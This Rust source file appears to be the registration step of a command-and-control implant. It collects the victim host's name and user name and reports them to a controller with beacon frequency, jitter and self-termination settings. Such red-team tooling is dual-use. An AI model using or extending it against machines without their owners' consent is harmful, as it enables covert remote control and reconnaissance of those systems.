use rand::RngCore;
use rand::rngs::OsRng;
use serde::Serialize;
use std::time::Duration;
use tracing::{info, warn};

use crate::core::config::CallbackConfig;
use crate::core::controller::Controller;

const SESSION_BYTES: usize = 4;

/// Registration record. The session is the controller's key for every later call.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Identity {
    pub session: String,
    pub hostname: String,
    pub username: String,
    pub callback_freq: u64,
    pub jitter: u32,
}

impl Identity {
    /// Draws the session token from the OS random source. Host facts that
    /// cannot be read are left empty.
    pub fn generate(callback: &CallbackConfig) -> Result<Self, rand::Error> {
        let mut bytes = [0u8; SESSION_BYTES];
        OsRng.try_fill_bytes(&mut bytes)?;

        let hostname = hostname::get()
            .map(|h| h.to_string_lossy().to_string())
            .unwrap_or_default();
        let username = whoami::fallible::username().unwrap_or_default();

        Ok(Self {
            session: hex::encode(bytes),
            hostname,
            username,
            callback_freq: callback.callback_freq,
            jitter: callback.jitter,
        })
    }
}

/// Posts the identity until the controller accepts it, pausing `backoff`
/// between attempts. Gives up after `callback.self_terminate` attempts.
pub async fn register(
    controller: &dyn Controller,
    identity: &Identity,
    callback: &CallbackConfig,
    backoff: Duration,
) -> bool {
    for attempt in 1..=callback.self_terminate {
        match controller.register(identity).await {
            Ok(()) => {
                info!("Registered session {}", identity.session);
                return true;
            }
            Err(e) => warn!(
                "Registration attempt {}/{} failed: {:#}",
                attempt, callback.self_terminate, e
            ),
        }
        if attempt < callback.self_terminate {
            tokio::time::sleep(backoff).await;
        }
    }
    false
}
